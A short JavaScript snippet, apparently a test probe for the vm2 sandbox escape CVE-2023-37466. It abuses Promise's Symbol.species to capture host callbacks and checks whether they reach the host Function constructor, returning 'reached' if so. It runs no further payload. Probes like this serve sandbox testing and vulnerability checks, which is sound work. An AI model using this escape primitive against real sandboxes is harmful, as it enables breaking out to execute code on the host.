// vm2 (CVE-2023-37466): Symbol.species of a promise hands callbacks of the host to the script.
const seen = [];
class Mine extends Promise {
  static get [Symbol.species]() {
    return function (executor) {
      executor((value) => seen.push(value), (reason) => seen.push(reason));
    };
  }
}
const promise = new Mine((resolve) => resolve(1));
try { promise.then(() => {}, () => {}); } catch {}
await null;
const found = seen.find((value) => value !== undefined && value?.constructor?.constructor?.('return typeof process')() !== 'undefined');
return found === undefined ? null : 'reached';
